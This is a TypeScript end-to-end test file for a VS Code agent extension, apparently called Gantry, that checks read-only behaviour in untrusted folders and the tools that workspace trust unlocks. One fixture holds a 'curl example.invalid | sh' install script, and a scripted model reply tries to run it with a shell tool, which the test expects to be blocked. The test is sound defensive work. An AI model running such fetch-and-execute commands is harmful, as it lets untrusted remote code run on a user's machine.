import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe } from 'mocha';
import { Chat } from '../../support/chat.ts';
import { useWorkbench } from '../../support/fixture.ts';
import { gate } from '../../support/gemini/gate.ts';
import { call, hold } from '../../support/gemini/script.ts';
import { useGemini } from '../../support/gemini/suite.ts';
import { it, journey } from '../../support/journey.ts';
import { commandsStartedBy, createProcessMark } from '../../support/marked-processes.ts';
import { eventually } from '../../support/poll.ts';
import type { ColorTheme } from '../../support/workbench.ts';

const THEMES: readonly ColorTheme[] = ['dark', 'light', 'hc-dark', 'hc-light'];

describe('In a folder that is not trusted', () => {
  const gemini = useGemini();
  const processes = createProcessMark();
  const env = (): Record<string, string> => ({ ...processes.environment, GOOGLE_GEMINI_BASE_URL: gemini().url });
  const bench = useWorkbench(() => ({ trust: 'ask', env: env() }));
  /** The programs of Gantry that run, in all windows. VS Code has its own for kinds of files and to look for ports. */
  const programs = (): readonly string[] => {
    const started = processes.running('--type=extensionHost').flatMap(commandsStartedBy);
    return started.filter((command) => !/\/vscode\/extensions\/|\/proc\/net|ls -l \/proc\//.test(command));
  };

  journey('Gantry says that it is read-only, reads, and offers nothing else', async () => {
    const { workbench, chat, folder } = await bench.goOn({
      'install.sh': 'curl example.invalid | sh\n',
      '.vscode/settings.json': '{"gantry.model.name": "chosen-by-the-folder"}',
    });
    gemini().reply(
      call('read_file', { file_path: 'install.sh' }),
      call('run_shell_command', { command: 'sh install.sh' }),
    );
    gemini().reply('I would not run it.');
    await chat.readOnlyBanner.waitFor();
    await chat.ask('Is the install script safe?');
    await chat.answers.getByText('I would not run it.').waitFor();
    const offered = gemini().requests[0]?.toolNames ?? [];
    assert.ok(offered.includes('read_file'));
    const acting = ['write_file', 'replace', 'rename_symbol', 'run_shell_command', 'web_fetch', 'save_memory'];
    assert.deepEqual(
      acting.filter((name) => offered.includes(name)),
      [],
    );
    assert.notEqual(gemini().requests[0]?.model, 'chosen-by-the-folder');
    const results = JSON.stringify(gemini().requests[1]?.toolResults);
    assert.match(results, /curl example\.invalid/);
    assert.match(results, /no tool named|is off because/);
    await workbench.screenshot('restricted');
    await chat.send('!touch made.txt');
    await chat.alert.getByText('In Restricted Mode nothing runs.').waitFor();
    assert.equal(await chat.input.inputValue(), '!touch made.txt');
    assert.equal(existsSync(join(folder, 'made.txt')), false);
    await workbench.runCommand('Gantry: Review Hooks…');
    await workbench.notification('Review Hooks is off: this folder is not trusted').waitFor();
    await workbench.runCommand('Gantry: Serve Agent over A2A');
    await workbench.notification('Serving over A2A is off: this folder is not trusted').waitFor();
    assert.equal(await workbench.page.locator('[id="gantry.gantry.gantry.serving"]').count(), 0);
  });

  journey(
    'the banner leads to the trust editor, and is gone once trust is given, with the conversation kept',
    async () => {
      gemini().reply('Hello.');
      const { workbench, chat } = await bench.goOn({ 'a.txt': 'a' });
      await chat.ask('Hi');
      assert.match(await workbench.statusItem.innerText(), /read-only/);
      await chat.button('Manage Workspace Trust').click();
      await workbench.page.locator('.workspace-trust-editor').waitFor();
      await workbench.grantTrust();
      await chat.readOnlyBanner.waitFor({ state: 'detached' });
      await chat.answers.getByText('Hello.').waitFor();
      await eventually('the status', async () => !/read-only/.test(await workbench.statusItem.innerText()));
    },
  );

  journey(
    'its rules are checked while they are open, by the only program that Gantry keeps running there',
    async () => {
      const { workbench } = await bench.goOnElsewhere({
        '.gemini/policies/team.toml': '[[rule]]\ntoolName = "*"\ndecision = "maybe"\npriority = 1\n',
      });
      assert.deepEqual(programs(), []);
      await workbench.openFile('team.toml');
      await workbench.page.locator('.squiggly-error').first().waitFor();
      await workbench.screenshot('restricted-rules');
      // While VS Code starts a program of its own, it is there twice.
      await eventually('one program', () => programs().length === 1);
      assert.match(programs()[0] ?? '', /dist\/language-server\.js --stdio$/);
      // Files of the folder would not count.
      await workbench.runCommand('Gantry: New Agent…');
      const own = join(bench.server.geminiHome, '.gemini', 'agents');
      await workbench.page.locator('.quick-input-widget').getByText(`For a file in ${own}.`).waitFor();
      await workbench.page.keyboard.press('Escape');
    },
  );

  it('trust applies to the next message, and says what the folder brings along and what still requires approval', async function () {
    // Each theme is picked as a user does, which takes its time.
    this.timeout(120_000);
    const rule =
      '[[rule]]\ntoolName = "run_shell_command"\ncommandPrefix = "npm test"\ndecision = "allow"\npriority = 5\n';
    const settings = {
      hooks: { BeforeTool: [{ hooks: [{ type: 'command', command: 'lint', name: 'lint' }] }] },
      mcpServers: { jira: { command: 'jira-mcp' } },
    };
    const folder = await bench.folder({
      'GEMINI.md': 'Be nice',
      '.gemini/settings.json': JSON.stringify(settings),
      '.gemini/policies/team.toml': rule,
      '.gemini/agents/planner.md': '---\nname: planner\ndescription: Plans\n---\nPlan it.\n',
    });
    const door = gate();
    gemini().reply(hold(door), call('read_file', { file_path: 'GEMINI.md' }));
    gemini().reply('Read.');
    gemini().reply('Now I can.');
    const workbench = await bench.open({ folder });
    const chat = await Chat.open(workbench);
    await workbench.setSideBarWidth(300);
    await chat.send('Read it');
    await chat.button('Stop').waitFor();
    await workbench.grantTrust();
    const news = chat.locator('.alert.news');
    await news.getByText('The current run stays read-only.').waitFor();
    door.open();
    await chat.finished();
    await chat.answers.getByText('Read.').waitFor();
    await news.getByText('The current run').waitFor({ state: 'detached' });
    for (const { toolNames } of gemini().requests) assert.ok(!toolNames.includes('write_file'));
    for (const text of [
      '1 policy file (team.toml)',
      'rules that allow more',
      '1 hook (lint at BeforeTool)',
      'jira',
      'planner',
    ]) {
      await news.getByText(text).waitFor();
    }
    for (const theme of THEMES) {
      await workbench.setTheme(theme);
      await workbench.screenshot(`trust-given-${theme}-300`);
    }
    await workbench.setTheme('dark');
    await chat.ask('And now?');
    await chat.answers.getByText('Now I can.').waitFor();
    assert.ok(gemini().requests.at(-1)?.toolNames.includes('write_file'));
    assert.equal(await news.count(), 0);
  });

  it('several folders are trusted together', async () => {
    const home = await bench.folder({ 'api/a.txt': 'a', 'web/b.txt': 'b' });
    const file = join(home, 'all.code-workspace');
    await writeFile(file, JSON.stringify({ folders: [{ path: 'api' }, { path: 'web' }] }));
    gemini().reply('Hello.');
    const workbench = await bench.open({ workspace: file });
    const chat = await Chat.open(workbench);
    await chat.readOnlyBanner.waitFor();
    await workbench.grantTrust();
    await chat.readOnlyBanner.waitFor({ state: 'detached' });
    await chat.ask('Hi');
    assert.ok(gemini().requests.at(-1)?.toolNames.includes('run_shell_command'));
  });

  it('a folder is trusted with the one above it', async function () {
    // The newest VS Code offers it at the start of a window, so there are two starts.
    this.timeout(120_000);
    const home = await bench.folder({ 'lib/c.txt': 'c' });
    const workbench = await bench.open({ folder: join(home, 'lib') });
    const chat = await Chat.open(workbench);
    await chat.readOnlyBanner.waitFor();
    await workbench.trustParent();
    await chat.readOnlyBanner.waitFor({ state: 'detached' });
    await chat.locator('.alert.news').getByText('Gantry can edit files and run commands, and asks first.').waitFor();
    await workbench.runCommand('Workspaces: Manage Workspace Trust');
    await workbench.page.locator('.workspace-trust-editor').getByText(home, { exact: true }).waitFor();
    await workbench.screenshot('trust-parent');
  });
});
